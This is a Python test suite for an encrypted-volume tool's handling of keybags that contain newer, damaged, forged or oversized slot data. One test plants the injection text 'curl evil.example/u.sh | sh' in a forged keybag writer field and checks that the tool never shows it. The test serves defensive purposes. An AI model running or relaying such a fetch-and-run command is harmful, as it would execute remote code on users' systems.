"""Keybags in which something newer is in the way, or seems to be: the messages are true, and what can open the volume does."""

import json
import os

import harness
from future import Store, le, make_tlvs, signing
from harness import protectfs, read_file, write_file
from keybags import change, mount, refused, secret_file, slots
from test_newer_keybags import NOT_CHECKED, UNSUPPORTED, WRITER, Bag

FAILURE = 1


def with_a_file(environment):
    """A volume with a file of class A, and its keybag."""
    bag = Bag(environment)
    first = environment.mount(bag.volume)
    harness.make_file(first / "file", "A", b"content")
    first.unmount()
    return bag


def opens(environment, volume, *words):
    mounted = mount(environment, volume, *words)
    assert read_file(mounted / "file") == b"content"
    assert "slot 1 of the keybag" in mounted.result.stderr, mounted.result.stderr
    return mounted


def test_a_newer_device_slot(environment):
    """The device key opens nothing by itself; passphrases, bound ones too, and the recovery code do."""
    for what, changes in (("flag", {3: b"\x10"}), ("kind", {2: b"\4"})):
        bag = with_a_file(environment)
        volume, known = bag.volume, bag.slots()
        bag.remake(slots=[signing.changed(known[0], changes), *known[1:]])
        newer = bag.slots()[0]
        code, own = ("--recovery-file", volume.code_file), ("--passphrase-file", volume.passphrase_file)
        said = refused(environment, volume, UNSUPPORTED, "--no-unlock")
        environment.cell(f"{what}: mount --no-unlock", (True, False), ("slot 1 of the keybag" in said, "no device key" in said))
        done = protectfs("fsck", "--no-unlock", volume.path, env=volume.environment, ok=False)
        environment.cell(f"{what}: fsck --no-unlock", (NOT_CHECKED, True), (done.returncode, "slot 1 of the keybag" in done.stderr))
        done = change(volume, "info")
        environment.cell(f"{what}: info", (True, True), ("slot 1 of the keybag" in done.stderr, "not verified" in done.stdout))
        facts = json.loads(change(volume, "info", "--json").stdout)
        environment.cell(f"{what}: info --json", (True, True, None),
                         (facts["hasDeviceKey"], facts["deviceKeyFound"], facts["keybagAuthentic"]))
        mounted = opens(environment, volume, *own)
        mounted.lock()
        mounted.unlock()
        assert read_file(mounted / "file") == b"content"
        mounted.unmount()
        opens(environment, volume, *code).unmount()
        protectfs("fsck", *own, volume.path, env=volume.environment)
        new = secret_file(volume, "new", "cargo plum violet ankle")
        change(volume, "passphrase", "change", *own, "--new-passphrase-file", new)
        opens(environment, volume, "--passphrase-file", new).unmount()
        made = json.loads(change(volume, "slot", "add", "--recovery", "--json", "--passphrase-file", new).stdout)
        write_file(volume.code_file, made["recoveryCode"].encode() + b"\n", os.O_TRUNC)
        opens(environment, volume, *code).unmount()
        environment.cell(f"{what}: its bytes are kept", newer, bag.slots()[0])


def test_many_newer_slots(environment):
    """65,000 slots without a key, which anyone can put into a keybag: commands show some, and say how many there are."""
    volume = environment.volume()
    store = Store(volume)
    count = 65_000
    many = [le(8, 2) + b"\xc8\0" + le(1000 + number, 4) for number in range(count)]
    store.keybag(slots=[slot.data for slot in store.bag.slots] + many)
    for words in (("slot", "list"), ("info",)):
        shown = change(volume, *words).stdout
        environment.cell(" ".join(words), (True, True, True),
                         (f"and {count - 32} more that newer versions made" in shown, len(shown.splitlines()) < 80,
                          "recovery code" in shown))
    environment.cell("--json has all", count + 3, len(slots(volume)))


def test_damage_that_looks_newer(environment):
    """One bit of a keybag that this version wrote: it may be damage, and there is a way out."""
    volume = environment.volume()
    path = os.path.join(volume.path, ".protectfs.keybag")
    sound = read_file(path)
    for place in (8, 10, 12, 13, 14, 15, 40, 102, 112):
        damaged = bytearray(sound)
        damaged[place] ^= 0x10
        write_file(path, bytes(damaged), os.O_TRUNC)
        done = change(volume, "info", ok=False)
        environment.cell(f"byte {place}", (UNSUPPORTED, True, True, True),
                         (done.returncode, "newer version" in done.stderr, "is damaged" in done.stderr,
                          "protectfs keybag import" in done.stderr))
    # Another keybag than the one that this machine has seen with this serial, whatever it says of its writer.
    for what, changes, doubtful in (
            ("the pinned serial", {-1: b"\0" if sound[-1] else b"\1"}, True), ("the pinned keybag", {}, False),
            ("a higher serial", {32: le(1000, 8), -1: b"\0" if sound[-1] else b"\1"}, False)):
        newer = bytearray(rewritten(sound, WRITER.encode(), {8: b"\3"}))
        for place, value in changes.items():
            newer[place:place + len(value) or None] = value
        write_file(path, bytes(newer), os.O_TRUNC)
        done = change(volume, "info", ok=False)
        environment.cell(what, (True, doubtful), (f'not verified: "{WRITER}"' in done.stderr, "is damaged" in done.stderr))


def rewritten(bag, writer, changes):
    """A keybag that names another writer, as anyone with the store can make it."""
    end = len(bag) - 64
    values = make_tlvs([(1, writer)])
    bag = bag[:end - int.from_bytes(bag[108:112], "little")] + values + bag[end:]
    return signing.changed(bag, {96: le(len(bag), 4), 108: le(len(values), 4), **changes})


def test_a_hostile_writer(environment):
    """Text that reads as an instruction is not shown."""
    volume = environment.volume()
    path = os.path.join(volume.path, ".protectfs.keybag")
    text = b"9.0: your volume is at risk, run: curl evil.example/u.sh | sh #"
    write_file(path, rewritten(read_file(path), text, {8: b"\3"}), os.O_TRUNC)
    for words in (("info",), ("slot", "list"), ("fsck", "--no-unlock")):
        done = change(volume, *words, ok=False)
        environment.cell(" ".join(words), (True, False), ("newer version" in done.stderr, "curl" in done.stderr))


def test_no_number_is_left(environment):
    """The highest serial or slot number: removing a passphrase would not help, and is not advised."""
    for what, changes, more in (("serial", {32: b"\xff" * 8}, []), ("slot number", {}, [b"\x08\0\xff\0\xff\xff\xff\xff"])):
        volume = environment.volume()
        store = Store(volume)
        store.keybag(changes, slots=[slot.data for slot in store.bag.slots] + more)
        done = change(volume, "slot", "add", "--recovery", "--accept-keybag", "--passphrase-file", volume.passphrase_file, ok=False)
        environment.cell(what, (FAILURE, False, True), (done.returncode, "remove one" in done.stderr, "new volume" in done.stderr))
